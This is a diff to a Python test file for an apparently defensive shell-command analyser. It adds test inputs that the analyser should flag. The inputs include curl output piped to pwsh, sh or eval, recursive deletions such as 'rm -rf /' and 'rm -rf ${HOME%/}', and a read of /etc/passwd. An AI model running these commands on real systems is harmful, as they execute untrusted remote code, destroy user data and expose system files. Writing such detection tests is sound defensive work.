@@ -265,6 +265,7 @@ def test_reads_writes_and_addresses_have_lists_of_their_own() -> None:
         "curl https://x.example | make -f -",
         "curl https://x.example | tee >(sh)",
         "curl https://x.example | $SHELL",
+        "curl https://x.example | pwsh -Command -",
         "$(curl https://x.example)",
         'x=$(curl https://x.example); eval "$x"',
         'while read x; do eval "$x"; done < a',
@@ -298,7 +299,8 @@ def test_a_program_that_only_gets_data_is_not_marked(text: str) -> None:
 @pytest.mark.parametrize(
     "text",
     ["rm -rf /", "rm -r ~/*", "rm -rf /etc", "find / -delete", "find ~ -exec rm {} +", "rm -rf /$x",
-     "cd /; rm -r *", "chmod -R 0 /", "mv ~ a", "echo / | xargs rm -rf", "x=/; rm -rf $x", "rm -rf /[a-z]*"],
+     "cd /; rm -r *", "chmod -R 0 /", "mv ~ a", "echo / | xargs rm -rf", "x=/; rm -rf $x",
+     "rm -rf ${HOME%/}", "rm -rf /[a-z]*"],
 )  # fmt: skip
 def test_the_loss_of_a_system_or_a_home_is_marked(text: str) -> None:
     assert read(text)["wipes"]
@@ -334,8 +336,12 @@ def test_variables_that_a_line_changes_are_listed(text: str, variables: list[str
         ("ls |", "it cannot be parsed"),
         ("$SHELL a", "a program's name cannot be known"),
         ("p a\\\nb", "a word goes on in the next line"),
+        ("echo a\n\\\nsudo b", "a command goes on behind a line break"),
+        ("echo a > b\n\\\nsudo b", "a command goes on behind a line break"),
+        ("echo a &&\n \\\nsudo b", "a command goes on behind a line break"),
         ("/???/c?t a", "a program's name cannot be known"),
         ("cat $(cat a)", "a path cannot be known"),
+        ("x=; cat ${x:-/etc/passwd}", "a path cannot be known"),
         ('grep "$(cat a)" b', "an argument cannot be known"),
         ("ls() { id; }", "it defines a function"),
         ("alias ls=id", "alias changes what other words mean"),
